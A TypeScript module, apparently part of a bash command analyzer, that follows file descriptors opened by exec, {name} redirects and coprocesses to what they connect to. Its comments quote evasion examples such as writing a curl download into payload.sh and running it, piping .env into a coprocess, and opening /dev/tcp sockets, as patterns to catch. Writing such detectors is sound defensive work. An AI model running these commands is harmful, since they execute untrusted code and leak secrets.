import type { Invocation, Stdin, Word } from './ir';
import { literalWord } from './ir';
import type { Scope } from './scope';

/**
 * File descriptors a line opens and uses later. `exec 3>payload.sh; curl x >&3; bash payload.sh`,
 * `exec {fd}< <(curl x); bash <&$fd` and `coproc { curl ...; }; cat .env >&${COPROC[1]}` are pipes
 * and downloads spelled with descriptor numbers; each number is followed to what it is connected to,
 * so that writing to or reading from it is judged as writing to or reading from that.
 */
export type Descriptor =
  /** A file or device (`exec 3>payload.sh`, `exec 3</dev/tcp/host/port`). */
  | { readonly kind: 'path'; readonly target: Word }
  /** Text written on the line (`exec 3<<<'...'`, a heredoc). */
  | { readonly kind: 'text'; readonly text: string; readonly dynamic: boolean }
  /** Another program's output (`exec 3< <(curl ...)`, what a coprocess prints). */
  | { readonly kind: 'producer'; readonly producer: Invocation }
  /** Shell source that reads whatever is written to it (`exec 3> >(bash)`, a coprocess's input). */
  | { readonly kind: 'consumer'; readonly source: string };

/** A descriptor a redirect opens: `fd` is its number, or `{name}` for a number bash picks. */
export interface OpenedDescriptor {
  readonly fd: string;
  readonly descriptor: Descriptor;
}

/** Bash hands out numbers from 10 up for `{name}>...` redirects. */
const FIRST_NAMED_DESCRIPTOR = 10;

/** The variable of a `{name}` word standing right before a redirect operator. */
export function namedDescriptor(text: string): string | undefined {
  return /^\{([A-Za-z_]\w*)\}$/.exec(text)?.[1];
}

/** The number a `>&N` or `<&N` target names: `3`, `3-` (moved), or a variable that holds one. */
export function descriptorNumber(target: Word): string | undefined {
  return target.dynamic ? undefined : /^(\d+)-?$/.exec(target.value)?.[1];
}

/** Paths that reopen an open descriptor: `/dev/fd/N`, `/proc/self/fd/N`, `/proc/thread-self/fd/N`. */
export function descriptorPath(value: string): string | undefined {
  return /^\/(?:dev\/fd|proc\/(?:self|thread-self|\d+|\$\$|\$BASHPID)\/fd)\/(\d+)$/.exec(value)?.[1];
}

/**
 * Remembers what a command opened for the rest of the line: everything `exec` opens, and `{name}`
 * descriptors of any command (bash leaves those open and stores their number in the variable).
 */
export function openDescriptors(opened: readonly OpenedDescriptor[], scope: Scope, isExec: boolean): void {
  for (const { fd, descriptor } of opened) {
    const name = namedDescriptor(fd);
    if (name !== undefined) {
      const number = freeNumber(scope);
      scope.variables.set(name, literalWord(number));
      scope.descriptors.set(number, descriptor);
    } else if (isExec) {
      scope.descriptors.set(fd, descriptor);
    }
  }
}

/**
 * `coproc NAME { ...; }` runs its body with two descriptors: `${NAME[0]}` reads what it prints and
 * `${NAME[1]}` writes to its input (NAME defaults to COPROC).
 */
export function openCoprocess(name: string, output: Invocation | undefined, source: string, scope: Scope): void {
  const reads = freeNumber(scope);
  scope.descriptors.set(reads, output ? { kind: 'producer', producer: output } : { kind: 'text', text: '', dynamic: true });
  const writes = freeNumber(scope);
  scope.descriptors.set(writes, { kind: 'consumer', source });
  scope.variables.set(name, literalWord(reads));
  scope.variables.set(`${name}[0]`, literalWord(reads));
  scope.variables.set(`${name}[1]`, literalWord(writes));
}

/** What a program reading this descriptor as its standard input gets. */
export function stdinFrom(descriptor: Descriptor): Stdin | undefined {
  switch (descriptor.kind) {
    case 'path':
      return { kind: 'text', text: `<${descriptor.target.value}`, dynamic: true, ...(descriptor.target.sources ? { sources: descriptor.target.sources } : {}) };
    case 'text':
      return { kind: 'text', text: descriptor.text, dynamic: descriptor.dynamic };
    case 'producer':
      return { kind: 'pipe', producer: descriptor.producer };
    case 'consumer':
      return undefined;
  }
}

function freeNumber(scope: Scope): string {
  let number = FIRST_NAMED_DESCRIPTOR;
  while (scope.descriptors.has(String(number))) number++;
  return String(number);
}
